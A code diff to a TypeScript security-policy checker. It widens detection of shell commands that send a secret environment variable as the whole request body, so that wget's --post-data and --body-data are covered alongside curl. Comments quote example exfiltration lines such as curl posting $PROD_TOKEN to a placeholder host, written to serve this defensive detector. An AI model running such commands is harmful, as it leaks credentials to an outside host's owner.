@@ -1,3 +1,4 @@
+import { ownTable } from '../../ownTable';
 import { providerIn } from '../../credentials/contentRules';
 import type { ArgWord, CodeSnippet, Facts, Finding, Invocation, Target } from '../../policy/types';
 import { projectDatabaseHosts } from './projectDatabaseHosts';
@@ -162,13 +163,22 @@ function belongsTo(variable: string, destination: Destination, sender?: string, 
  * `curl -d "$PROD_TOKEN" https://x.example`: the secret is the whole request body, the value itself delivered (a
  * credential that signs a request in goes in a header or `-u`); whoever owns the host receives it.
  */
+const BODY_OPTIONS: Readonly<Record<string, readonly string[]>> = ownTable({
+  curl: ['--data', '--data-binary', '--data-raw', '--data-ascii', '--data-urlencode', '--json'],
+  // wget's request body (`--post-data=$T`, `--body-data` with `--method`), read through its registry entry.
+  wget: ['--post-data', '--body-data'],
+});
+
 function wholeBody(inv: Invocation, variable: string): boolean {
-  const spec = inv.name === 'curl' ? toolNamed('curl') : undefined;
-  if (!spec) return false;
-  const bodies = toolArgs(inv.name, parsedArgs(inv.args, spec), spec).values('--data', '--data-binary', '--data-raw', '--data-ascii', '--data-urlencode', '--json');
+  const options = BODY_OPTIONS[inv.name];
+  const spec = options ? toolNamed(inv.name) : undefined;
+  if (!spec || !options) return false;
+  const bodies = toolArgs(inv.name, parsedArgs(inv.args, spec), spec).values(...options);
   const bare = new RegExp(`^["']?\\$\\{?${variable}\\}?["']?$`);
   // A variable assigned from the secret (`T="$PROD_TOKEN"`) is written back into the word as written (`"${PROD_TOKEN}"`).
-  return bodies.some((b) => bare.test(b.trim()) || inv.args.some((w) => w.text === b && bare.test(w.raw.trim())));
+  // Glued to its option (`--post-data=$T`), the value is what follows the `=` of the word as written.
+  const written = (w: ArgWord, b: string): string | undefined => (w.text === b ? w.raw : w.text.endsWith(`=${b}`) && w.raw.includes('=') ? w.raw.slice(w.raw.indexOf('=') + 1) : undefined);
+  return bodies.some((b) => bare.test(b.trim()) || inv.args.some((w) => bare.test(written(w, b)?.trim() ?? '')));
 }
 
 /** `curl --variable %STRIPE_SECRET_KEY --expand-url '…{{STRIPE_SECRET_KEY}}'`: an environment variable imported and expanded into what curl sends. */
